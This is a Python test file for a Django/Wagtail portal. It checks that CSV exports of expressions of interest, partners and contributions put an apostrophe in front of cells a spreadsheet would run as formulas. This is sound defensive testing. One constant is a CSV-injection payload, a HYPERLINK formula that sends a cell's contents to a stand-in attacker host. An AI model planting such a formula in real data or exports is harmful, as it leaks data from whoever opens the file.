"""Every CSV the admin writes keeps an applicant's or editor's text as text: a cell that a spreadsheet
would run as a formula starts with an apostrophe (Wagtail does this for XLSX only)."""

import csv
import io
import uuid

import pytest

from django.contrib.auth.models import Group, User
from django.urls import reverse
from django.utils import timezone

from partnerships.models import ExpressionOfInterest
from portal.spreadsheets import neutralise_formula
from tests.factories import ContributionFactory, PartnerFactory, login, make_user

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://evil.example/?d="&C2,"Open")'


def csv_rows(response):
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))


@pytest.mark.parametrize(
    "text,expected",
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+33 1 23 45 67 89", "'+33 1 23 45 67 89"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Fundación Prueba = trusted", "Fundación Prueba = trusted"),
        (-5, -5),
        (None, None),
    ],
)
def test_only_text_that_a_spreadsheet_would_run_is_neutralised(text, expected):
    assert neutralise_formula(text) == expected


def test_the_expressions_of_interest_export_neutralises_formulas(client):
    ExpressionOfInterest.objects.create(
        submission_token=uuid.uuid4(),
        language="en",
        organisation_name=HYPERLINK,
        organisation_type="philanthropic_foundation",
        country="FR",
        contact_name="@admin",
        email="someone@example.org",
        contribution_types=["training"],
        proposal="-1+1",
        alignment="Fits the programme.",
        consent_given_at=timezone.now(),
    )
    reviewer = User.objects.create_user("csv-reviewer", "csv@example.org", "pw")
    reviewer.groups.add(Group.objects.get(name="Transparency reviewers"))
    client.force_login(reviewer)
    [row] = csv_rows(client.get(reverse("expressions_of_interest:index"), {"export": "csv"}))
    values = set(row.values())
    assert "'" + HYPERLINK in values
    assert "'@admin" in values
    assert "'-1+1" in values
    assert HYPERLINK not in values


def test_the_partner_and_contribution_exports_neutralise_formulas(client):
    partner = PartnerFactory(name="=1+2 Labs")
    ContributionFactory(partner=partner, reference="AGR-77", title="+Training for analysts")
    login(client, make_user("csv-editor", "Editors"))
    [partner_row] = csv_rows(
        client.get(reverse("wagtailsnippets_partnerships_partner:list"), {"export": "csv"})
    )
    assert partner_row["Name"] == "'=1+2 Labs"
    [contribution_row] = csv_rows(
        client.get(reverse("wagtailsnippets_partnerships_contribution:list"), {"export": "csv"})
    )
    assert "'+Training for analysts" in contribution_row.values()
